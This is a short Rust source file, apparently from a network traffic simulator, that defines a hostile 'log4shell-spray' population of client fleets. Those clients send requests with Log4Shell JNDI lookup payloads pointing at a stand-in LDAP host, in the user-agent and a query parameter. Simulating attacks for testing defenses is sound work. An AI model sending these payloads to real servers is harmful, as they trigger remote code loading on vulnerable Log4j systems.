//! Lookups in agent and target, one or two requests an address.

use super::super::*;

pub(super) const LOG4SHELL_SPRAY: Population = Population {
    name: "log4shell-spray",
    hostile: true,
    description: say::it,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 10, members: 12, delay: 500.0, spread: 2000.0, turns: (1, 2), pause: 5.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, _| {
            Box::new(move |at, rng, send| {
                Sent::get(client, "${jndi:ldap://198.51.100.7:1389/Exploit}").to(
                    "/?x=${jndi:ldap://198.51.100.7/a}",
                    "",
                    at,
                    rng,
                    send,
                );
            })
        })
    },
};

mod say {
    crate::text::words! {
        it { en: "Lookups in agent and target, one or two requests an address.", ko: "에이전트와 대상에 조회 구문을 넣어 주소마다 한두 번." }
    }
}
